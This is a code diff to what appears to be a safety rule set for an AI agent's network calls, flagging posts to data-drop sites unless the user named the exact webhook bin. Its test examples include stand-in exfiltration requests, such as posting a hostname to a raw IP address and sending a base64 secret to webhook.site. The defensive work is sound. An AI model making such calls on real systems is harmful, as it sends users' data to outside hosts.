@@ -19,6 +19,17 @@ import { windowsTechniques } from '../knowledge/windows.js';
 // ---------------------------------------------------------------------------------------------
 
 
+/**
+ * A collector's address by its host and its own unguessable id (the last segment of the path, eight characters or
+ * more: a webhook bin, a channel), for a user who gives it; a bare host or a short path names nothing.
+ */
+function binNamed(url: string): string[] {
+  const d = destinationOf(url);
+  const path = url.replace(/^[a-z][a-z0-9+.-]*:\/\/[^/?#]*/i, '').replace(/[?#].*$/s, '');
+  const id = path.split('/').filter((p) => p.length > 0).pop();
+  return d && id && id.length >= 8 ? [d.host, id] : [];
+}
+
 /** Top-level home folders that hold a user's own documents and code. */
 const PERSONAL_DIRS = new Set(['Documents', 'Desktop', 'Downloads', 'Pictures', 'Movies', 'Music', 'Videos', 'projects', 'Projects', 'work', 'src', 'code', 'Code', 'repos', 'git', 'workspace', 'dev', 'Dropbox', 'OneDrive', 'Library', 'notes', 'docs', 'Private', 'private', 'secrets', 'Secrets']);
 
@@ -1011,6 +1022,21 @@ export const RULES: readonly Rule[] = [
       if (!(NETWORK_SEND.has(i.call.method.toUpperCase()) || i.call.body || (q > 0 && q < i.call.url.length - 1))) return undefined;
       const d = i.facts.destinations.find((x) => DROP_KINDS.has(x.kind));
       return d ? `${i.call.method} ${d.url ?? d.host}` : undefined;
+    },
+    // a bin the user made and gives by its address ("I made a bin at https://webhook.site/0c6f…, send it a test
+    // event"): its id cannot be guessed, so only the user can have named it; secrets in the body are other rules'
+    askable: {
+      asks: ['send', 'post', 'deliver', 'fire', 'replay'],
+      objects: (i) => (i.call.kind === 'network' ? binNamed(i.call.url) : []),
+      examples: {
+        asked: [['I made a bin at https://webhook.site/0c6f2d7e-9a41-4b8e. Send it a sample refund event from our fixture', { Network: { method: 'POST', url: 'https://webhook.site/0c6f2d7e-9a41-4b8e', body: '{"id":"evt_test_1"}' } }]],
+        unasked: [
+          ['send a sample event to webhook.site', { Network: { method: 'POST', url: 'https://webhook.site/0c6f2d7e-9a41-4b8e', body: '{"id":"evt_test_1"}' } }],
+          ['I made a bin at https://webhook.site/0c6f2d7e-9a41-4b8e. Send it a sample event', { Network: { method: 'POST', url: 'https://webhook.site/77aa01bc-9a41-4b8e', body: '{"id":"evt_test_1"}' } }],
+          ["don't send anything to https://webhook.site/0c6f2d7e-9a41-4b8e yet", { Network: { method: 'POST', url: 'https://webhook.site/0c6f2d7e-9a41-4b8e', body: '{"id":"evt_test_1"}' } }],
+          ['post the results to http://45.33.12.7/c', { Network: { method: 'POST', url: 'http://45.33.12.7/c', body: 'hostname=dev1' } }],
+        ],
+      },
     },
     examples: {
       fire: [{ Network: { method: 'POST', url: 'https://webhook.site/6f0c1b9e', body: '{"k":"v"}' } }, { Network: { method: 'PUT', url: 'https://transfer.sh/x.txt', body: 'data' } }, { Network: { method: 'POST', url: 'http://45.33.12.7/c', body: 'hostname=dev1' } }, { Network: { method: 'GET', url: 'https://webhook.site/abc?k=c2VjcmV0' } }],
